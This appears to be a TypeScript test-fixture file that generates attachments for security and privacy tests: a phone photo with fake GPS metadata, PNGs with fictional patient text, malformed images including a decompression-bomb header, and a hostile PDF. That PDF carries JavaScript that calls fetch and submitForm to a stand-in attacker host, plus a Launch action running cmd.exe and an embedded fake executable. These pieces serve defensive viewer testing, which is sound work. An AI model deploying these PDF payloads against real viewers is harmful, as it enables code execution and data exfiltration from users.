/**
 * Files to attach in tests, made in the test rather than checked in: a phone photo that says
 * where it was taken, a PNG with text in its chunks, images that lie about themselves, a PDF with
 * known text and a hostile one. Plus readers of the metadata containers in JPEG and PNG, so a test
 * can say "nothing but pixels left" without trusting the decoder that wrote them.
 */
import { deflateSync, crc32 } from 'node:zlib';
import sharp from 'sharp';

// ---------------------------------------------------------------------------------------------
// Images

/** What jpegWithGps() writes into the photo's EXIF and XMP: none of it may survive. */
export const PHOTO_EXIF = {
  make: 'WardlineTestCam',
  model: 'Phone 9 Pro',
  serial: 'SERIAL-7F3A-0042',
  gps: { latitudeRef: 'N', latitude: '51/1 30/1 3230/100', longitudeRef: 'W', longitude: '0/1 7/1 4366/100' },
  xmpLocation: '51,30.5383N',
} as const;

export interface PhotoFixture {
  readonly bytes: Uint8Array;
  /** Pixel size as stored; EXIF orientation 6 means it is shown turned a quarter clockwise. */
  readonly storedWidth: number;
  readonly storedHeight: number;
  readonly orientation: 6;
  readonly exif: typeof PHOTO_EXIF;
}

const XMP = `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>
<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
<rdf:Description rdf:about="" xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="${PHOTO_EXIF.xmpLocation}"/>
</rdf:RDF></x:xmpmeta><?xpacket end="w"?>`;

/** A recognisable picture: a coloured block top left, so orientation can be checked from pixels. */
function scene(width: number, height: number): sharp.Sharp {
  const marker = {
    input: { create: { width: width >> 2, height: height >> 2, channels: 3 as const, background: '#d01010' } },
    left: 0,
    top: 0,
  };
  return sharp({ create: { width, height, channels: 3, background: '#2060c0' } }).composite([marker]);
}

/** A JPEG as a phone writes it: EXIF with camera, serial and GPS, XMP with the place, orientation 6. */
export async function jpegWithGps(storedWidth = 600, storedHeight = 400): Promise<PhotoFixture> {
  const flat = await scene(storedWidth, storedHeight).jpeg().toBuffer();
  const bytes = await sharp(flat)
    .withMetadata({ orientation: 6 })
    .withExifMerge({
      IFD0: { Make: PHOTO_EXIF.make, Model: PHOTO_EXIF.model },
      IFD2: { BodySerialNumber: PHOTO_EXIF.serial, DateTimeOriginal: '2026:03:14 09:26:53' },
      IFD3: {
        GPSLatitudeRef: PHOTO_EXIF.gps.latitudeRef,
        GPSLatitude: PHOTO_EXIF.gps.latitude,
        GPSLongitudeRef: PHOTO_EXIF.gps.longitudeRef,
        GPSLongitude: PHOTO_EXIF.gps.longitude,
      },
    })
    .withXmp(XMP)
    .jpeg({ quality: 90 })
    .toBuffer();
  return { bytes: new Uint8Array(bytes), storedWidth, storedHeight, orientation: 6, exif: PHOTO_EXIF };
}

/** Text written into pngWithText()'s chunks. */
export const PNG_TEXT = { comment: 'Patient Jane Roe, MRN 00424242', software: 'WardlineTestShot 1.0' } as const;

function pngChunk(type: string, data: Uint8Array): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])) >>> 0, 0);
  return Buffer.concat([head, data, crc]);
}

/** `extra` chunks inserted right after IHDR. */
function withChunks(png: Uint8Array, extra: readonly Buffer[]): Uint8Array {
  const afterIhdr = 8 + 8 + 13 + 4;
  return new Uint8Array(Buffer.concat([png.subarray(0, afterIhdr), ...extra, png.subarray(afterIhdr)]));
}

/** A screenshot-like PNG with tEXt, zTXt, iTXt (XMP), eXIf and tIME chunks. */
export async function pngWithText(width = 320, height = 200): Promise<Uint8Array> {
  const png = await scene(width, height).png().withXmp(XMP).toBuffer();
  const latin1 = (text: string) => Buffer.from(text, 'latin1');
  const exif = await sharp(await scene(8, 8).jpeg().toBuffer())
    .withExif({ IFD0: { Software: PNG_TEXT.software } })
    .metadata();
  return withChunks(png, [
    pngChunk('tEXt', latin1(`Comment\0${PNG_TEXT.comment}`)),
    pngChunk('zTXt', Buffer.concat([latin1('Description\0\0'), deflateSync(latin1(PNG_TEXT.comment))])),
    pngChunk('iTXt', latin1(`Author\0\0\0en\0Author\0${PNG_TEXT.comment}`)),
    pngChunk('eXIf', exif.exif ?? Buffer.alloc(0)),
    pngChunk('tIME', Buffer.from([0x07, 0xea, 3, 14, 9, 26, 53])),
  ]);
}

/** A large photo, as a 24-megapixel phone camera writes it (default 6000×4000). */
export async function largePhoto(width = 6000, height = 4000): Promise<Uint8Array> {
  // Noise at low amplitude over a gradient: compresses like a photo, not like a flat colour.
  const noise = await sharp({
    create: { width, height, channels: 3, background: '#808080', noise: { type: 'gaussian', mean: 128, sigma: 40 } },
  })
    .jpeg({ quality: 92 })
    .toBuffer();
  return new Uint8Array(noise);
}

export interface MalformedImages {
  /** The first half of a real JPEG. */
  readonly truncatedJpeg: Uint8Array;
  /** JPEG's magic, then noise. */
  readonly noiseWithJpegMagic: Uint8Array;
  /** A well-formed PNG header claiming 100000×100000 pixels (a decompression bomb's opening). */
  readonly hugePng: Uint8Array;
  /** A PNG whose image data is not zlib. */
  readonly corruptPng: Uint8Array;
}

/** Deterministic noise (no Math.random: a failing case can be replayed). */
function noise(length: number, seed = 7): Uint8Array {
  const out = new Uint8Array(length);
  let state = seed;
  for (let index = 0; index < length; index += 1) {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
    out[index] = state >>> 24;
  }
  return out;
}

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function pngOf(width: number, height: number, idat: Uint8Array): Uint8Array {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 2, 0, 0, 0], 8); // 8-bit RGB, deflate, no filter method, no interlace
  return new Uint8Array(
    Buffer.concat([PNG_SIGNATURE, pngChunk('IHDR', ihdr), pngChunk('IDAT', idat), pngChunk('IEND', new Uint8Array())]),
  );
}

export async function malformedImages(): Promise<MalformedImages> {
  const real = await scene(800, 600).jpeg({ quality: 90 }).toBuffer();
  const noiseWithJpegMagic = noise(64 * 1024);
  noiseWithJpegMagic.set([0xff, 0xd8, 0xff, 0xe0]);
  // A little real deflate data (a bomb's would inflate to 30 GB; the header alone must refuse it).
  const hugePng = pngOf(100_000, 100_000, deflateSync(new Uint8Array(1024 * 1024)));
  return {
    truncatedJpeg: new Uint8Array(real.subarray(0, real.length >> 1)),
    noiseWithJpegMagic,
    hugePng,
    corruptPng: pngOf(64, 64, noise(4096, 11)),
  };
}

/** The metadata containers in a JPEG (APPn other than JFIF's APP0, COM) or PNG (ancillary chunks that carry text, EXIF, ICC or time). */
export function imageMetadataMarkers(bytes: Uint8Array): string[] {
  const buffer = Buffer.from(bytes.buffer, bytes.byteOffset, bytes.length);
  if (buffer.subarray(0, 8).equals(PNG_SIGNATURE)) {
    const found: string[] = [];
    for (let at = 8; at + 8 <= buffer.length;) {
      const length = buffer.readUInt32BE(at);
      const type = buffer.toString('latin1', at + 4, at + 8);
      if (['tEXt', 'zTXt', 'iTXt', 'eXIf', 'iCCP', 'tIME', 'caNv'].includes(type)) found.push(type);
      at += 12 + length;
    }
    return found;
  }
  const found: string[] = [];
  // Segments up to the first scan; after it only entropy-coded data and EOI follow.
  for (let at = 2; at + 4 <= buffer.length && buffer[at] === 0xff;) {
    const marker = buffer[at + 1]!;
    if (marker === 0xda) break;
    const length = buffer.readUInt16BE(at + 2);
    if (marker >= 0xe1 && marker <= 0xef) found.push(`APP${marker - 0xe0}`);
    if (marker === 0xe0 && buffer.toString('latin1', at + 4, at + 9) !== 'JFIF\0') found.push('APP0');
    if (marker === 0xfe) found.push('COM');
    at += 2 + length;
  }
  return found;
}

// ---------------------------------------------------------------------------------------------
// PDFs, hand-written object by object with a correct cross-reference table.

/** `objects[i]` is object i+1's body; object 1 is the catalog. */
function buildPdf(objects: readonly string[], version = '1.7'): Uint8Array {
  let out = `%PDF-${version}\n%\u00e2\u00e3\u00cf\u00d3\n`;
  const offsets: number[] = [];
  objects.forEach((body, index) => {
    offsets.push(Buffer.byteLength(out, 'latin1'));
    out += `${index + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xrefAt = Buffer.byteLength(out, 'latin1');
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f\r\n`;
  for (const offset of offsets) out += `${String(offset).padStart(10, '0')} 00000 n\r\n`;
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xrefAt}\n%%EOF\n`;
  return new Uint8Array(Buffer.from(out, 'latin1'));
}

const stream = (dictionary: string, content: string) =>
  `<< ${dictionary} /Length ${Buffer.byteLength(content, 'latin1')} >>\nstream\n${content}\nendstream`;

/** A page's text, one line per string, in Helvetica (a standard font: not embedded). */
const textContent = (lines: readonly string[]) =>
  `BT /F1 18 Tf 72 720 Td 24 TL ${lines.map((line) => `(${line.replace(/[()\\]/g, (c) => `\\${c}`)}) '`).join(' ')} ET`;

const HELVETICA = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>';

/** Two pages of known text, one line each. */
export const PDF_PAGES = ['Potassium 5.9 mmol/L at 06:10', 'Repeat at 14:00 and call the on-call registrar'] as const;

export function pdfWithText(): Uint8Array {
  // 1 catalog, 2 pages, 3 font, then each page and its content stream.
  const pageObjects = PDF_PAGES.flatMap((line, index) => {
    const page = 4 + index * 2;
    return [
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> /Contents ${page + 1} 0 R >>`,
      stream('', textContent([line])),
    ];
  });
  const kids = PDF_PAGES.map((_, index) => `${4 + index * 2} 0 R`).join(' ');
  return buildPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${kids}] /Count ${PDF_PAGES.length} >>`,
    HELVETICA,
    ...pageObjects,
  ]);
}

/** What hostilePdf() tries: each must come to nothing in the viewer. */
export const HOSTILE_PDF = {
  text: 'Hostile test document',
  uri: 'https://attacker.invalid/',
  remotePdf: 'https://attacker.invalid/remote.pdf',
  javascriptUrl: 'https://attacker.invalid/js',
  launch: 'C:\\Windows\\System32\\calc.exe',
  embeddedFile: 'payload.exe',
} as const;

/**
 * A PDF that tries everything a viewer must not do: JavaScript on open (document OpenAction, a
 * document-level script in the Names tree, a page-open action) calling app.alert, fetch and
 * submitForm to the attacker; a Launch action; a URI link; a GoToR link to a remote PDF; an
 * embedded executable.
 */
export function hostilePdf(): Uint8Array {
  const js = (code: string) => `<< /Type /Action /S /JavaScript /JS (${code}) >>`;
  return buildPdf([
    // 1 catalog
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /Names << /JavaScript 7 0 R /EmbeddedFiles 9 0 R >> >>',
    // 2 pages, 3 page
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R /Annots [10 0 R 11 0 R 12 0 R] /AA << /O 13 0 R >> >>',
    // 4 content, 5 font
    stream(
      '',
      textContent([
        HOSTILE_PDF.text,
        `Link: ${HOSTILE_PDF.uri}`,
        `Launch: ${HOSTILE_PDF.launch}`,
        `Remote: ${HOSTILE_PDF.remotePdf}`,
      ]),
    ),
    HELVETICA,
    // 6 OpenAction, 7 JavaScript name tree, 8 its script
    js(`app.alert('pwned'); fetch('${HOSTILE_PDF.javascriptUrl}'); this.submitForm('${HOSTILE_PDF.javascriptUrl}');`),
    '<< /Names [(init) 8 0 R] >>',
    js(`app.launchURL('${HOSTILE_PDF.javascriptUrl}', true);`),
    // 9 EmbeddedFiles name tree
    `<< /Names [(${HOSTILE_PDF.embeddedFile}) 14 0 R] >>`,
    // 10 URI link, 11 Launch link, 12 GoToR link (rectangles over the lines that name them)
    `<< /Type /Annot /Subtype /Link /Rect [72 690 400 712] /Border [0 0 1] /A << /S /URI /URI (${HOSTILE_PDF.uri}) >> >>`,
    `<< /Type /Annot /Subtype /Link /Rect [72 666 400 688] /Border [0 0 1] /A << /S /Launch /F (${HOSTILE_PDF.launch.replace(/\\/g, '\\\\')}) /Win << /F (cmd.exe) /P (/c calc) >> >> >>`,
    `<< /Type /Annot /Subtype /Link /Rect [72 642 400 664] /Border [0 0 1] /A << /S /GoToR /F << /Type /Filespec /FS /URL /F (${HOSTILE_PDF.remotePdf}) >> /D [0 /Fit] >> >>`,
    // 13 page-open script
    js("app.alert('page open');"),
    // 14 file spec, 15 the embedded file
    `<< /Type /Filespec /F (${HOSTILE_PDF.embeddedFile}) /UF (${HOSTILE_PDF.embeddedFile}) /EF << /F 15 0 R >> >>`,
    stream('/Type /EmbeddedFile /Subtype /application#2Foctet-stream', 'MZ this is not really a program'),
  ]);
}

/** Passes the header and trailer check but is not a PDF a reader can open. */
export function malformedPdf(): Uint8Array {
  return new Uint8Array(
    Buffer.concat([
      Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 9 0 R'),
      Buffer.from(noise(2048, 3)),
      Buffer.from('\n%%EOF\n'),
    ]),
  );
}
